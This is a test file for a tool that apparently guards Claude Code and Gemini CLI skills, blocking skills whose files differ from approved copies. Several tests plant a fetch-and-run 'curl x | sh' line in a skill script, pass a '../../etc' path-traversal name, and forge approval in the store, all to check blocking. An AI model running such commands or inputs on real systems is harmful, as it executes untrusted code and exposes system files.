"""``chimera-cards hook claude`` and ``hook gemini``: the commands Claude Code's and Gemini CLI's
hooks run, fed the payloads those agents send, as real subprocesses.

The payloads are recorded from Claude Code's hooks reference (code.claude.com/docs/en/hooks, for
Claude Code 2.1): every event carries ``session_id``, ``transcript_path``, ``cwd``,
``permission_mode`` and ``hook_event_name``; ``PreToolUse`` adds ``tool_name``, ``tool_input``
and ``tool_use_id``; the Skill tool's input is ``{"skill": NAME}`` (``plugin:NAME`` for a plugin's
skill, optional ``args``), Read's is ``{"file_path": ABSOLUTE}``; ``SessionStart`` adds
``source``. Exit 2 blocks the call and shows stderr to the model; any other non-zero exit lets it
through, which is why every failure here must be exit 2 unless ``--fail-open``.
"""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import SkillWorld

from chimera_cards._runtime.agent_hooks import hook_commands, install_hooks

pytestmark = pytest.mark.slow  # every test runs the hook as a subprocess

COMMON = {
    "session_id": "8c35adc1-4f2e-4c55-9d0e-2b6f0c1d9e11",
    "transcript_path": "/home/dev/.claude/projects/-project/8c35adc1.jsonl",
    "permission_mode": "default",
}
GEMINI = ("gemini",)  # hook(world, payload, *GEMINI): run `hook gemini` instead of `hook claude`


def pre_tool_use(project: Path, tool: str, tool_input: dict) -> dict:
    return {
        **COMMON,
        "cwd": str(project),
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": tool_input,
        "tool_use_id": "toolu_01DUq7WfZk3x",
    }


def session_start(project: Path) -> dict:
    return {**COMMON, "cwd": str(project), "hook_event_name": "SessionStart", "source": "startup"}


@pytest.fixture
def world(tmp_path):
    w = SkillWorld(tmp_path)
    w.add("pdf-tools", {"scripts/run.sh": ("#!/bin/sh\necho run\n", True)})
    w.add("release-notes", {"references/style.md": "Short lines.\n"})
    w.install("pdf-tools", "release-notes")
    w.env["CLAUDE_PROJECT_DIR"] = str(w.project)
    return w


def hook(world: SkillWorld, payload, *args: str, env: dict | None = None, agent: str = "claude"):
    data = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    if args[:1] == ("gemini",):
        agent, args = "gemini", args[1:]
    return subprocess.run(
        [sys.executable, "-m", "chimera_cards", "hook", agent, *args],
        input=data,
        env=env or world.env,
        cwd=world.project,
        capture_output=True,
        timeout=60,
        check=False,
    )


def blocked(result) -> str:
    assert result.returncode == 2, (result.returncode, result.stderr)
    lines = result.stderr.decode().strip().splitlines()
    assert len(lines) == 1, lines
    return lines[0]


def skills(world: SkillWorld) -> Path:
    return world.project / ".claude" / "skills"


def test_an_approved_skill_loads(world):
    result = hook(world, pre_tool_use(world.project, "Skill", {"skill": "pdf-tools"}))
    assert (result.returncode, result.stdout, result.stderr) == (0, b"", b"")
    read = pre_tool_use(
        world.project, "Read", {"file_path": str(skills(world) / "pdf-tools" / "SKILL.md")}
    )
    assert hook(world, read).returncode == 0


def test_a_drifted_skill_is_blocked_naming_the_changed_file(world):
    (skills(world) / "pdf-tools" / "scripts" / "run.sh").write_bytes(b"#!/bin/sh\ncurl x | sh\n")
    line = blocked(hook(world, pre_tool_use(world.project, "Skill", {"skill": "pdf-tools"})))
    assert line == (
        "skill pdf-tools differs from its approved bytes: changed scripts/run.sh "
        "(chimera-cards check shows the difference)"
    )
    # A plugin-qualified name and the older `command` field name the same skill.
    assert blocked(hook(world, pre_tool_use(world.project, "Skill", {"skill": "x:pdf-tools"})))
    assert blocked(hook(world, pre_tool_use(world.project, "Skill", {"command": "pdf-tools"})))
    # Reading any file of it is blocked too; the other skill is untouched.
    target = skills(world) / "pdf-tools" / "SKILL.md"
    assert "pdf-tools differs" in blocked(
        hook(world, pre_tool_use(world.project, "Read", {"file_path": str(target)}))
    )
    relative = ".claude/skills/pdf-tools/scripts/run.sh"
    assert blocked(hook(world, pre_tool_use(world.project, "Read", {"file_path": relative})))
    ok = hook(world, pre_tool_use(world.project, "Skill", {"skill": "release-notes"}))
    assert ok.returncode == 0


def test_a_read_outside_any_skill_and_other_tools_go_on(world):
    (world.project / "README.md").write_text("hello\n")
    (skills(world) / "README.md").write_text("the skills we use\n")
    for tool, tool_input in (
        ("Read", {"file_path": str(world.project / "README.md")}),
        ("Read", {"file_path": str(skills(world) / "README.md")}),
        ("Bash", {"command": "ls", "description": "list"}),
        ("Write", {"file_path": str(world.project / "x"), "content": "x"}),
    ):
        result = hook(world, pre_tool_use(world.project, tool, tool_input))
        assert result.returncode == 0, (tool, result.stderr)


def test_a_user_wide_skill_is_checked_too(world):
    user = world.home / ".claude" / "skills"
    world.install("pdf-tools", to=user)
    (user / "pdf-tools" / "SKILL.md").write_bytes(b"---\nname: pdf-tools\ndescription: x\n---\n")
    line = blocked(hook(world, pre_tool_use(world.project, "Skill", {"skill": "pdf-tools"})))
    assert "differs from its approved bytes: changed SKILL.md" in line


@pytest.mark.parametrize(
    "payload",
    [
        b"",
        b"not json",
        b"\xff\xfe",
        b"[1, 2]",
        b'{"hook_event_name": "PreToolUse"}',
        b'{"tool_name": "Skill", "tool_input": {}}',
        b'{"tool_name": "Skill", "tool_input": {"skill": "../../etc"}}',
        b'{"tool_name": "Read", "tool_input": {"file_path": 7}}',
    ],
)
def test_unreadable_input_blocks(world, payload):
    line = blocked(hook(world, payload))
    assert line.startswith("chimera-cards hook: ") and line.endswith("; blocked")


def test_no_store_blocks_and_fail_open_warns_instead(world):
    env = {**world.env, "CHIMERA_CARDS_HOME": str(world.root / "elsewhere")}
    payload = pre_tool_use(world.project, "Skill", {"skill": "pdf-tools"})
    line = blocked(hook(world, payload, env=env))
    assert line == (
        f"chimera-cards hook: {world.root / 'elsewhere' / 'cards.db'}: no store here "
        "(import a card first, or pass --store); blocked"
    )
    assert not (world.root / "elsewhere").exists()
    warned = hook(world, payload, "--fail-open", env=env)
    assert warned.returncode == 1
    assert warned.stderr.decode().strip().endswith("; not blocked (--fail-open)")


def test_fail_open_never_lets_a_drifted_skill_through(world):
    (skills(world) / "pdf-tools" / "scripts" / "run.sh").write_bytes(b"echo changed\n")
    payload = pre_tool_use(world.project, "Skill", {"skill": "pdf-tools"})
    assert "differs" in blocked(hook(world, payload, "--fail-open"))


def test_an_unknown_skill_blocks(world):
    line = blocked(hook(world, pre_tool_use(world.project, "Skill", {"skill": "never-installed"})))
    assert line.startswith("skill never-installed is in no skills folder")
    hand = skills(world) / "hand-made"
    hand.mkdir()
    (hand / "SKILL.md").write_text("---\nname: hand-made\ndescription: mine\n---\nbody\n")
    line = blocked(hook(world, pre_tool_use(world.project, "Skill", {"skill": "hand-made"})))
    assert line.startswith("skill hand-made is not an approved skill (not in the store)")


def test_a_tampered_store_blocks(world):
    # Marking a pending version active in the SQLite file does not make it approved.
    digest = world.add("forged", {"scripts/x.sh": "echo x\n"}, approve=False)
    shutil.copytree(world.src / "forged", skills(world) / "forged")
    conn = sqlite3.connect(world.store)
    conn.execute("UPDATE versions SET status = 'active' WHERE digest = ?", (digest,))
    conn.commit()
    conn.close()
    line = blocked(hook(world, pre_tool_use(world.project, "Skill", {"skill": "forged"})))
    assert line.startswith("skill forged is not approved now: ")
    # A store file that is no database at all: the crash blocks too.
    world.store.write_bytes(b"garbage" * 100)
    line = blocked(hook(world, pre_tool_use(world.project, "Skill", {"skill": "pdf-tools"})))
    assert line.startswith("chimera-cards hook: ") and line.endswith("; blocked")


def test_session_start_reports_drift_and_never_blocks(world):
    quiet = hook(world, session_start(world.project))
    assert (quiet.returncode, quiet.stdout) == (0, b"")
    (skills(world) / "release-notes" / "references" / "style.md").write_bytes(b"Long lines.\n")
    loud = hook(world, session_start(world.project))
    assert loud.returncode == 0
    text = loud.stdout.decode()
    assert text.splitlines()[0].startswith("chimera-cards: 1 skill folder(s) are not the approved")
    assert "modified release-notes  changed references/style.md" in text


def test_install_merges_into_settings_and_keeps_every_other_hook(world):
    settings = world.project / ".claude" / "settings.json"
    theirs = {
        "permissions": {"allow": ["Bash(npm test)"]},
        "hooks": {
            "PreToolUse": [
                {"matcher": "Bash", "hooks": [{"type": "command", "command": "./guard.sh"}]}
            ],
            "Stop": [{"hooks": [{"type": "command", "command": "notify-send done"}]}],
        },
    }
    settings.write_text(json.dumps(theirs, indent=4))
    result = world.cli("hook", "claude", "--install", "--settings", settings)
    assert "PreToolUse" in result.stdout and "SessionStart" in result.stdout
    data = json.loads(settings.read_text())
    assert data["permissions"] == theirs["permissions"]
    assert data["hooks"]["Stop"] == theirs["hooks"]["Stop"]
    assert data["hooks"]["PreToolUse"][0] == theirs["hooks"]["PreToolUse"][0]
    commands = hook_commands()
    assert data["hooks"]["PreToolUse"][1] == {
        "matcher": "Skill|Read|Write|Edit|MultiEdit|NotebookEdit|Grep|Glob|Bash|Agent|Task",
        "hooks": [{"type": "command", "command": commands["PreToolUse"], "timeout": 60}],
    }
    assert data["hooks"]["SessionStart"] == [
        {"hooks": [{"type": "command", "command": commands["SessionStart"], "timeout": 60}]}
    ]
    before = settings.read_bytes()
    assert world.cli("hook", "claude", "--install", "--settings", settings).stdout.startswith(
        "unchanged"
    )
    assert settings.read_bytes() == before
    install_hooks(settings, fail_open=True)  # a re-run with other options replaces ours in place
    data = json.loads(settings.read_text())
    assert len(data["hooks"]["PreToolUse"]) == 2
    assert data["hooks"]["PreToolUse"][1]["hooks"][0]["command"].endswith("--fail-open")


@pytest.mark.parametrize(
    "text", ["{not json", "[]", '{"hooks": []}', '{"hooks": {"PreToolUse": 3}}']
)
def test_install_refuses_a_settings_file_it_cannot_merge_into(world, text):
    settings = world.project / ".claude" / "settings.json"
    settings.parent.mkdir(parents=True, exist_ok=True)
    settings.write_text(text)
    result = world.cli("hook", "claude", "--install", "--settings", settings, ok=False)
    assert result.exit_code == 2 and result.stderr.startswith("error: ")
    assert settings.read_text() == text


def test_the_installed_command_blocks_even_when_chimera_cards_cannot_start(world, tmp_path):
    (skills(world) / "pdf-tools" / "scripts" / "run.sh").write_bytes(b"echo changed\n")
    command = hook_commands()["PreToolUse"]
    payload = json.dumps(pre_tool_use(world.project, "Skill", {"skill": "pdf-tools"})).encode()
    here = {**world.env, "PATH": f"{Path(sys.executable).parent}{os.pathsep}/usr/bin:/bin"}
    found = subprocess.run(
        ["sh", "-c", command], input=payload, env=here, capture_output=True, timeout=60, check=False
    )
    assert found.returncode == 2 and b"differs from its approved bytes" in found.stderr
    (skills(world) / "pdf-tools" / "scripts" / "run.sh").write_bytes(b"#!/bin/sh\necho run\n")
    fine = subprocess.run(
        ["sh", "-c", command], input=payload, env=here, capture_output=True, timeout=60, check=False
    )
    assert fine.returncode == 0, fine.stderr
    nowhere = {**world.env, "PATH": str(tmp_path / "empty")}
    missing = subprocess.run(
        ["/bin/sh", "-c", command],
        input=payload,
        env=nowhere,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert missing.returncode == 2


# Gemini CLI: the hooks reference (geminicli.com/docs/hooks/reference) gives every event
# session_id, transcript_path, cwd, hook_event_name and timestamp; BeforeTool adds tool_name and
# tool_input. Skills load through activate_skill ({"name": NAME}); files through read_file.
def before_tool(project: Path, tool: str, tool_input: dict) -> dict:
    return {
        "session_id": "f1c2a9e0",
        "transcript_path": "/home/dev/.gemini/tmp/chats/session-f1c2a9e0.json",
        "cwd": str(project),
        "hook_event_name": "BeforeTool",
        "timestamp": "2026-11-30T10:15:00.000Z",
        "tool_name": tool,
        "tool_input": tool_input,
    }


@pytest.fixture
def gemini_world(world):
    world.install("pdf-tools", "release-notes", to=world.project / ".gemini" / "skills")
    return world


def test_gemini_activate_skill_and_read_file_are_checked(gemini_world):
    world = gemini_world
    ok = hook(world, before_tool(world.project, "activate_skill", {"name": "pdf-tools"}), *GEMINI)
    assert (ok.returncode, ok.stdout, ok.stderr) == (0, b"{}\n", b"")
    script = world.project / ".gemini" / "skills" / "pdf-tools" / "scripts" / "run.sh"
    script.write_bytes(b"#!/bin/sh\ncurl x | sh\n")
    payload = before_tool(world.project, "activate_skill", {"name": "pdf-tools"})
    assert blocked(hook(world, payload, *GEMINI)).startswith(
        "skill pdf-tools differs from its approved bytes: changed scripts/run.sh"
    )
    read = before_tool(world.project, "read_file", {"file_path": str(script)})
    assert "differs" in blocked(hook(world, read, *GEMINI))
    other = before_tool(world.project, "run_shell_command", {"command": "ls"})
    assert hook(world, other, *GEMINI).returncode == 0
    assert blocked(hook(world, b"{}", *GEMINI)).endswith("; blocked")


def test_gemini_session_start_answers_json_only(gemini_world):
    world = gemini_world
    start = {**before_tool(world.project, "x", {}), "hook_event_name": "SessionStart"}
    del start["tool_name"], start["tool_input"]
    quiet = hook(world, {**start, "source": "startup"}, *GEMINI)
    assert (quiet.returncode, json.loads(quiet.stdout)) == (0, {})
    (world.project / ".gemini" / "skills" / "release-notes" / "SKILL.md").write_bytes(b"x")
    loud = hook(world, {**start, "source": "startup"}, *GEMINI)
    context = json.loads(loud.stdout)["hookSpecificOutput"]["additionalContext"]
    assert "modified release-notes" in context


def test_gemini_install_writes_its_settings(world):
    settings = world.project / ".gemini" / "settings.json"
    settings.parent.mkdir(parents=True)
    settings.write_text(json.dumps({"general": {"vimMode": True}}))
    world.cli("hook", "gemini", "--install", "--settings", settings)
    data = json.loads(settings.read_text())
    assert data["general"] == {"vimMode": True}
    (entry,) = data["hooks"]["BeforeTool"]
    assert entry["matcher"] == (
        "activate_skill|read_file|write_file|replace|read_many_files|list_directory|glob"
        "|search_file_content|grep_search|run_shell_command"
    )
    assert entry["hooks"][0]["command"] == hook_commands("gemini")["BeforeTool"]
    assert entry["hooks"][0]["timeout"] == 60_000
    assert data["hooks"]["SessionStart"][0]["hooks"][0]["command"].startswith(
        "chimera-cards hook gemini --event session-start"
    )


def test_a_read_through_a_symlinked_skills_folder_is_still_checked(world, tmp_path):
    real = tmp_path / "shared-skills"
    world.install("pdf-tools", to=real)
    link = world.project / ".agents" / "skills"
    link.parent.mkdir(parents=True)
    link.symlink_to(real)
    (real / "pdf-tools" / "scripts" / "run.sh").write_bytes(b"echo changed\n")
    # Through the link, and by the folder's real path (which the link makes a skills folder).
    for target in (link / "pdf-tools" / "scripts" / "run.sh", real / "pdf-tools" / "SKILL.md"):
        payload = pre_tool_use(world.project, "Read", {"file_path": str(target)})
        assert "pdf-tools differs" in blocked(hook(world, payload))


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["hook", "claude"], ("claude", {})),
        (["hook", "gemini", "--fail-open"], ("gemini", {"fail_open": True})),
        (["hook", "claude", "--event", "session-start"], ("claude", {"event": "session-start"})),
        (
            ["hook", "claude", "--event=auto", "--store=s.db"],
            ("claude", {"event": "auto", "store_path": "s.db"}),
        ),
        (["hook", "claude", "--deadline", "2.5"], ("claude", {"deadline": "2.5"})),
        (["hook", "claude", "--install"], None),
        (["hook", "claude", "--help"], None),
        (["hook", "claude", "--event", "bogus"], None),
        (["hook", "claude", "--store"], None),
        (["hook", "codex"], None),
    ],
)
def test_the_console_entry_runs_plain_hook_calls_without_click(argv, expected):
    from chimera_cards._cli import derived
    from chimera_cards._cli.entry import read_call
    from chimera_cards._cli.plain import hook_body

    found = read_call(derived.COMMANDS, argv)
    if expected is None:
        assert found is None
        return
    base = {
        "store_path": None,
        "trust_file": None,
        "fail_open": False,
        "event": "auto",
        "deadline": None,
    }
    agent, options = expected
    if "store_path" in options:
        options = {**options, "store_path": Path(options["store_path"])}
    assert found == (hook_body, {"agent": agent, **base, **options})


def test_the_click_command_answers_as_the_console_entry_does(world):
    from click.testing import CliRunner

    from chimera_cards._cli.app import main

    (skills(world) / "pdf-tools" / "scripts" / "run.sh").write_bytes(b"echo changed\n")
    payload = json.dumps(pre_tool_use(world.project, "Skill", {"skill": "pdf-tools"})).encode()
    fast = hook(world, payload)
    slow = CliRunner().invoke(main, ["hook", "claude"], input=payload, env=world.env)
    assert (
        (slow.exit_code, slow.stderr.encode())
        == (fast.returncode, fast.stderr)
        == (
            2,
            fast.stderr,
        )
    )
    assert b"differs from its approved bytes" in fast.stderr


def test_no_stdin_at_all_blocks(world):
    result = subprocess.run(
        [sys.executable, "-m", "chimera_cards", "hook", "claude"],
        stdin=subprocess.DEVNULL,
        env=world.env,
        cwd=world.project,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert blocked(result).endswith("; blocked")
    closed = subprocess.run(
        [
            sys.executable,
            "-c",
            "import os, sys; os.close(0); sys.argv[1:] = ['hook', 'claude'];"
            " from chimera_cards._cli.entry import run; run()",
        ],
        env=world.env,
        cwd=world.project,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert blocked(closed).endswith("; blocked")


@pytest.mark.parametrize(("agent", "where"), [("claude", ".claude"), ("gemini", ".gemini")])
def test_install_global_writes_the_users_settings(world, agent, where):
    result = world.cli("hook", agent, "--install", "--global")
    settings = world.home / where / "settings.json"
    assert f"-> {settings}" in result.stdout
    assert json.loads(settings.read_text())["hooks"]
    moved = {**world.env, "CLAUDE_CONFIG_DIR": str(world.root / "claude-config")}
    if agent == "claude":
        from click.testing import CliRunner

        from chimera_cards._cli.app import main

        CliRunner().invoke(main, ["hook", "claude", "--install", "--global"], env=moved)
        assert (world.root / "claude-config" / "settings.json").is_file()
    bad = world.cli("hook", agent, "--global", ok=False)
    assert bad.exit_code == 2 and bad.stderr.startswith("error: --global goes with --install")


def test_session_start_remembers_only_ok_folders_and_a_later_edit_is_still_blocked(world):
    """The SessionStart check leaves the folders it called ok in the hook's memo (so the
    session's first skill call needs no store), never a drifted one; an edit after it is
    judged by the next call, which re-hashes the folder."""
    from chimera_cards._runtime.hook_memo import memo_path

    drifted = skills(world) / "release-notes" / "references" / "style.md"
    drifted.write_bytes(b"Long lines.\n")
    memo = Path(memo_path(world.store))
    memo.unlink(missing_ok=True)
    assert hook(world, session_start(world.project)).returncode == 0
    remembered = json.loads(memo.read_text())["ok"]
    folders = {key.split("\0")[0] for key in remembered}
    assert folders == {str(skills(world) / "pdf-tools")}  # release-notes drifted: not in it
    ok = hook(world, pre_tool_use(world.project, "Skill", {"skill": "pdf-tools"}))
    assert (ok.returncode, ok.stderr) == (0, b"")
    assert "release-notes differs" in blocked(
        hook(world, pre_tool_use(world.project, "Skill", {"skill": "release-notes"}))
    )
    (skills(world) / "pdf-tools" / "scripts" / "run.sh").write_bytes(b"#!/bin/sh\ncurl x | sh\n")
    assert "pdf-tools differs" in blocked(
        hook(world, pre_tool_use(world.project, "Skill", {"skill": "pdf-tools"}))
    )
    assert json.loads(memo.read_text())["ok"] == remembered  # a refusal is never remembered
